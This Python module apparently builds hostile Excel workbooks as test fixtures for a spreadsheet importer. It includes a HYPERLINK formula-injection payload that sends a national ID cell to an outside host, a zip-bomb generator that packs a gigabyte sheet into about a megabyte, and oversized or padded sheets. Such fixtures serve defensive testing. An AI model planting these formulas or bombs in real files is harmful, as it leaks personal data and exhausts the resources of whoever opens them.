"""Workbooks made to harm whoever opens them."""

import io
import zipfile

import xlsxwriter

HEADER = ("NIK", "Nama", "Tanggal Lahir")
ROW = ("6571020101802087", "Budi", "01-01-1980")


def workbook(*, formula: bool = False, far: bool = False, columns: int = 0, spaces: int = 0) -> bytes:
    """A small list with one trap in it."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("Anggota")
        sheet.write_row(0, 0, [*HEADER, *(f"x{place}" for place in range(columns))])
        sheet.write_row(1, 0, ROW)
        if formula:
            sheet.write_formula(1, 3, '=HYPERLINK("http://example.org/?"&A2,"x")')
        if far:
            sheet.write_string(1_048_575, 16_383, "x")
        if spaces:
            sheet.write_string(1, 3, " " * 32_000)
            for line in range(2, spaces):
                sheet.write_row(line, 0, [*ROW, " " * 32_000])
    return out.getvalue()


def with_part(content: bytes, name: str, body: bytes) -> bytes:
    """A workbook with one more part in its archive."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, body)
    return out.getvalue()


def bomb() -> bytes:
    """A sheet of a gigabyte that packs into one megabyte."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            if part.filename != "xl/worksheets/sheet1.xml":
                target.writestr(part, source.read(part))
        with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(1_024):
                sheet.write(b" " * (1 << 20))
    return out.getvalue()
